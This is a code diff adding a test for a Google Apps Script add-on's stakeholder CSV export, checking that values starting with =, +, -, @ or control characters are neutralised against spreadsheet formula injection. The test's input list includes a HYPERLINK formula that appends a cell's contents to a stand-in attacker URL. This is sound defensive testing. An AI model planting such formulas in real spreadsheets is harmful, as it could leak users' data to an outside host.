@@ -197,6 +197,30 @@ describe('the communication plan’s next dates on refresh', () => {
 });
 
 describe('Export stakeholders for Google My Maps', () => {
+  it('neutralizes every cell that a spreadsheet program would run from the downloaded CSV, as OWASP advises', () => {
+    const addon = setUpAlliance('en');
+    const hostile = ['=HYPERLINK("http://evil.example/"&A1)', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
+    appendRows(
+      addon,
+      'stakeholders',
+      hostile.map((name) => ({ stakeholder: `'${name}`, address: `'${name}`, contactPerson: `'${name}` })),
+    );
+    addon.run('exportStakeholdersForMyMaps');
+    const rows = addon.ws.calls.uncounted(() => {
+      const app = addon.ws.globals().SpreadsheetApp as GoogleAppsScript.Spreadsheet.SpreadsheetApp;
+      const sheet = app
+        .getActiveSpreadsheet()
+        .getSheetByName('My Maps export') as GoogleAppsScript.Spreadsheet.Sheet;
+      return { values: sheet.getDataRange().getValues(), formulas: sheet.getDataRange().getFormulas() };
+    });
+    // The stored value is what File › Download › CSV writes: each starts with the apostrophe, none is a formula.
+    const cells = rows.values.slice(1).map((row) => [row[0], row[1], row[4]]);
+    expect(cells).toEqual(
+      hostile.map((name) => name.trim()).map((name) => [`'${name}`, `'${name}`, `'${name}`]),
+    );
+    expect(rows.formulas.flat().filter(Boolean)).toEqual([]);
+  });
+
   it('writes a sheet of name, address, category, influence and contact, and says how to import it', () => {
     const addon = setUpAlliance('fr');
     appendRows(addon, 'stakeholders', [
@@ -227,7 +251,7 @@ describe('Export stakeholders for Google My Maps', () => {
     expect(values).toEqual([
       ['Nom', 'Adresse', 'Catégorie', 'Influence', 'Contact'],
       [
-        '=Mairie de Bordeaux',
+        "'=Mairie de Bordeaux",
         'Place Pey-Berland, 33000 Bordeaux',
         'Pouvoirs publics',
         'Haut',
